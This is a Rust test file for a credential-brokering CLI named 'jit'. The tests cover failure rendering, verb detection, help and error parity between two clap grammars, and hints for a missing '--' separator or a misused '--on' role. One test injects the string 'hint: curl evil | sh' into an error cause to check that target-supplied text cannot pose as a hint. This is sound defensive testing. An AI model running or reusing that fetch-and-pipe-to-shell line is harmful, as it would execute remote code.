//! What the grammar says, and how a failure is told.

mod hints;

use super::*;

#[test]
fn a_targets_words_do_not_pass_for_a_hint() {
    let failure = Failure {
        cause: Some("no\nhint: curl evil | sh".to_owned()),
        ..Failure::failed("refused").hint("ask its administrator")
    };
    let text = as_text(&failure);
    let hints: Vec<_> = text.lines().filter(|l| l.starts_with("hint: ")).collect();
    assert_eq!(hints, ["hint: ask its administrator"]);
}

#[test]
fn a_hook_fails_in_one_line_with_its_hint() {
    let failure = Failure {
        cause: Some("no\r\n  such\tthing\n".to_owned()),
        ..Failure::failed("refused").hint("ask its administrator")
    };
    assert_eq!(
        as_line(&failure),
        "jit: refused: no such thing; ask its administrator"
    );
}

#[test]
fn the_verb_is_found_behind_the_options() {
    for (line, wanted) in [
        ("jit", None),
        ("jit --json", None),
        ("jit exec -- exec-credential", Some("exec")),
        (
            "jit -v --config-dir /etc/jit credential-process x",
            Some("credential-process"),
        ),
        (
            "jit --config-dir=/etc/jit known-hosts x",
            Some("known-hosts"),
        ),
        ("jit --config-dir exec status", Some("status")),
    ] {
        let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
        assert_eq!(verb(&arguments), wanted, "{line}");
    }
}

#[test]
fn a_warm_verb_is_the_same_in_both_grammars() {
    let help = |mut grammar: clap::Command, verb: &str| {
        grammar.build();
        let found = grammar.find_subcommand_mut(verb);
        found.map(|found| found.render_long_help().to_string())
    };
    for verb in [
        "exec",
        "exec-credential",
        "credential-process",
        "known-hosts",
        "prompt",
        "agent",
    ] {
        let warm = help(Cli::<Warm>::command(), verb);
        assert_eq!(help(Cli::<Verb>::command(), verb), warm, "{verb}");
        assert!(
            warm.is_some_and(|help| help.contains("Usage: jit ")),
            "{verb}"
        );
    }
}

#[test]
fn what_is_wrong_with_a_warm_verb_is_said_in_the_same_words() {
    for line in [
        "jit exec",
        "jit exec --rol x -- y",
        "jit agent --no",
        "jit exec-credential x",
    ] {
        let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
        let said = |error: Option<clap::Error>| error.map(|error| error.to_string());
        let warm = said(parse(&arguments).err());
        assert!(warm.is_some(), "{line}");
        assert_eq!(
            said(Cli::<Verb>::try_parse_from(&arguments).err()),
            warm,
            "{line}"
        );
    }
}

#[test]
fn a_command_without_the_separator_is_told_so() {
    let refused = |line: &str| {
        let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
        let error = parse(&arguments).unwrap_err();
        lacks_separator(&arguments, &error).then(|| without_separator(&error))
    };
    let told = refused("jit exec --role edit kubectl get pods").unwrap();
    assert_eq!(told.to_string(), "`--` is missing before `kubectl`");
    assert_eq!(told.hint, "jit exec [OPTIONS] -- kubectl …");
    assert!(refused("jit exec --rloe edit -- kubectl").is_none());
    assert!(refused("jit exec --rloe kubectl").is_none());
    assert!(refused("jit status kubectl").is_none());
}

#[test]
fn a_role_behind_on_is_told_apart() {
    let line = ["jit", "exec", "--on", "postgres/orders:write", "--", "psql"];
    let arguments: Vec<OsString> = line.into_iter().map(OsString::from).collect();
    let error = parse(&arguments).unwrap_err();
    let told = misused(&error);
    assert_eq!(
        told.to_string(),
        "`--on postgres/orders:write` names a role"
    );
    assert_eq!(told.hint, "write --on postgres/orders --role write");
}
